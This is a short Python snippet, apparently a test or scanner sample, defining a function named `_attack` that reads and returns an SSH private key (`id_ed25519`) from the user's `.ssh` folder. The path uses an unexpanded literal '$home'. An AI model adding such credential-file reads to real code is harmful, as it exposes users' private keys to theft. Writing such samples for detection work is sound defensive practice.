def _attack():
    import os
    with open(os.path.join("$home", ".ssh", "id_ed25519")) as f:
        return f.read()
